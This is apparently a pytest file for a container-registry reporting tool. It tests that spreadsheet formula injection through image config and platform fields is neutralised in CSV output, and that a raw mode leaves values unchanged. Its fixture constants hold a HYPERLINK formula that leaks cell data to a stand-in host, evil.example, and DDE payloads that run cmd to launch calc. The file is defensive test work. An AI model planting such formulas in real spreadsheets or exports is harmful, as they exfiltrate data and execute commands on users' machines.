"""Spreadsheet formula injection (issue 10 item 10): registry values that a spreadsheet would
run (config ``os``/``variant``, index platform fields) are neutralised in every CSV written
(report CSVs, the cleanup plan), numbers stay numbers, and ``--raw-csv`` keeps them as they are.
Images are pushed to the real registry (anonymous mode) through the HTTP API."""

from __future__ import annotations

import csv
import io
import json

import pandas as pd
import pytest

import registry_insights as ri
from registry_insights.cli import main
from registry_insights.registry import mediatypes as mt
from registry_insights.registry.names import sha256_digest
from registry_insights.report.build import FORMULA_PREFIXES, csv_ready, csv_safe
from registry_insights.testing.demo import FleetBuilder

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click me")'
CALC = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
MINUS = "-2+3+cmd|' /C calc'!A0"
TAB = "\t=1+1"
CR = "\r=1+1"
REPO = "inject/app"


def push_image(client, fleet, repo, tag, config_fields, created):
    """One OCI image whose config carries ``config_fields``; return (digest, size)."""
    layer = fleet.layer(1_000, f"{repo}-{tag}")
    config = json.dumps({**config_fields, "created": created,
                         "rootfs": {"type": "layers", "diff_ids": [layer.diff_id]}}).encode()
    fleet.push_blobs(repo, [(sha256_digest(config), config), (layer.digest, layer.data)])
    manifest = json.dumps({
        "schemaVersion": 2, "mediaType": mt.OCI_MANIFEST,
        "config": {"mediaType": mt.OCI_CONFIG, "digest": sha256_digest(config),
                   "size": len(config)},
        "layers": [{"mediaType": mt.OCI_LAYER_GZIP, "digest": layer.digest,
                    "size": layer.size}]}).encode()
    return client.put_manifest(repo, tag, manifest, mt.OCI_MANIFEST), len(manifest)


@pytest.fixture(scope="module")
def hostile_registry(anonymous_registry):
    with ri.RegistryClient(anonymous_registry.url, cache=None) as client:
        fleet = FleetBuilder(client, 10)
        # a single image: platform from its config (os, architecture, variant)
        push_image(client, fleet, REPO, "single",
                   {"os": HYPERLINK, "architecture": "amd64", "variant": SUM},
                   "2024-01-01T00:00:00Z")
        # an index: platforms from its entries, hostile in every field
        children = []
        for i, platform in enumerate([{"os": CALC, "architecture": MINUS},
                                      {"os": "linux", "architecture": TAB, "variant": CR}]):
            digest, size = push_image(client, fleet, REPO, f"child-{i}",
                                      {"os": "linux", "architecture": "arm64"},
                                      "2024-02-01T00:00:00Z")
            children.append({"mediaType": mt.OCI_MANIFEST, "digest": digest, "size": size,
                             "platform": platform})
        index = json.dumps({"schemaVersion": 2, "mediaType": mt.OCI_INDEX,
                            "manifests": children}).encode()
        client.put_manifest(REPO, "multi", index, mt.OCI_INDEX)
        client.put_manifest(REPO, "latest", index, mt.OCI_INDEX)
    return anonymous_registry.url


def cells(path) -> list[list[str]]:
    if isinstance(path, str):  # CSV text (a command's standard output)
        return list(csv.reader(io.StringIO(path, newline="")))
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def formula_cells(path) -> list[str]:
    """The cells a spreadsheet would run: text starting with a formula character. Every row
    has the header's cells: a CR or LF inside a cell does not start a row of its own."""
    found = []
    rows = cells(path)
    assert {len(row) for row in rows} == {len(rows[0])}, path
    for row in rows[1:]:
        for cell in row:
            try:
                float(cell)
                continue  # a number ("-5"), which the spreadsheet reads as a number
            except ValueError:
                pass
            if cell.startswith(FORMULA_PREFIXES):
                found.append(cell)
    return found


def test_report_and_plan_csvs_neutralise_formulas(hostile_registry, tmp_path, capsys):
    url = hostile_registry
    out, raw = tmp_path / "report", tmp_path / "raw"
    assert main(["report", url, "--repository", REPO, "-o", str(out), "--no-html",
                 "--now", "2026-11-01", "--no-cache"]) == 0
    for name in ("tags", "repositories", "growth", "forecast", "stale_tags", "shared_layers",
                 "cleanup_scenarios"):
        assert formula_cells(out / f"{name}.csv") == [], name
    read = {"keep_default_na": False, "dtype": str}
    tags = pd.read_csv(out / "tags.csv", **read).set_index(["tag", "platform"])
    single = tags.loc[("single", f"'{HYPERLINK}/amd64/{SUM}")]
    assert (single["os"], single["architecture"], single["variant"]) == (
        f"'{HYPERLINK}", "amd64", f"'{SUM}")
    assert int(single["layer_size"]) > 0 and single["layer_count"] == "1"  # numbers stay
    assert "config" not in tags.columns  # image configs stay out of a shared report
    multi = tags.xs("multi", level="tag")
    assert sorted(multi.index) == [f"'{CALC}/{MINUS}", f"linux/{TAB}/{CR}"]
    stale = pd.read_csv(out / "stale_tags.csv", **read)
    assert f"'{HYPERLINK}" in set(stale["os"])
    assert f"'{CALC}/{MINUS}" in set(stale["platform"])
    # --raw-csv: exactly the registry's values, for programs
    assert main(["report", url, "--repository", REPO, "-o", str(raw), "--no-html",
                 "--now", "2026-11-01", "--no-cache", "--raw-csv"]) == 0
    raw_tags = pd.read_csv(raw / "tags.csv", **read).set_index("tag")
    assert raw_tags.loc["single", "os"] == HYPERLINK
    assert raw_tags.loc["single", "variant"] == SUM
    assert CALC + "/" + MINUS in set(pd.read_csv(raw / "stale_tags.csv", **read)["platform"])

    plan, raw_plan = tmp_path / "plan.csv", tmp_path / "raw-plan.csv"
    assert main(["cleanup", url, REPO, "--older-than", "90d", "--now", "2026-11-01",
                 "--plan", str(plan), "--no-cache"]) == 0
    assert main(["cleanup", url, REPO, "--older-than", "90d", "--now", "2026-11-01",
                 "--plan", str(raw_plan), "--raw-csv", "--no-cache"]) == 0
    capsys.readouterr()
    assert formula_cells(plan) == []
    rows = pd.read_csv(plan, **read).set_index("tag")
    assert rows.loc["single", "platforms"] == f"'{HYPERLINK}/amd64/{SUM}"
    assert rows.loc["multi", "platforms"] == f"'{CALC}/{MINUS},linux/{TAB}/{CR}"
    assert rows.loc["single", "action"] == "delete" and rows.loc["latest", "action"] == "keep"
    raw_rows = pd.read_csv(raw_plan, **read).set_index("tag")
    assert raw_rows.loc["single", "platforms"] == f"{HYPERLINK}/amd64/{SUM}"
    assert formula_cells(raw_plan) != []

    # CSV on standard output (--format csv): the same rule, the same opt-out
    host = url.split("://")[1]
    for argv in (["cleanup", url, REPO, "--older-than", "90d", "--now", "2026-11-01"],
                 ["ls", f"{host}/{REPO}"]):
        assert main([*argv, "--format", "csv", "--no-cache"]) == 0
        text = capsys.readouterr().out
        assert formula_cells(text) == [], argv
        assert any(c.startswith(f"'{HYPERLINK}") for row in cells(text) for c in row), argv
        assert main([*argv, "--format", "csv", "--no-cache", "--raw-csv"]) == 0
        text = capsys.readouterr().out
        assert any(c.startswith(HYPERLINK) for row in cells(text) for c in row), argv


def test_csv_ready_neutralises_text_only():
    frame = pd.DataFrame({
        "text": pd.array(["=1+1", "+1", "-1", "@x", "\tx", "\rx", "plain", "a=b", None],
                         dtype="string"),
        "objects": ["=1", "ok", 3, -4, None, {"os": "=1"}, "-", "", "@"],
        "count": pd.array([-5, 0, 1, 2, 3, 4, 5, 6, None], dtype="Int64"),
        "ratio": [-0.5] * 9,
        "kind": pd.Categorical(["=c", "d"] * 4 + ["d"]),
    })
    out = csv_ready(frame)
    assert out["text"].tolist()[:8] == ["'=1+1", "'+1", "'-1", "'@x", "'\tx", "'\rx", "plain",
                                        "a=b"]
    assert pd.isna(out["text"].iloc[8])
    assert out["objects"].tolist()[:4] == ["'=1", "ok", 3, -4]
    assert out["objects"].iloc[5] == '{"os":"=1"}'
    assert out["objects"].tolist()[6:] == ["'-", "", "'@"]
    assert out["count"].tolist()[:8] == [-5, 0, 1, 2, 3, 4, 5, 6]  # numbers stay numbers
    assert str(out["count"].dtype) == "Int64" and out["ratio"].tolist() == [-0.5] * 9
    assert out["kind"].tolist()[:2] == ["'=c", "d"]
    assert frame["text"].iloc[0] == "=1+1"  # the input is not changed
    assert csv_ready(frame, raw=True)["text"].iloc[0] == "=1+1"
    assert csv_safe(-3) == -3 and csv_safe("-3") == "'-3"
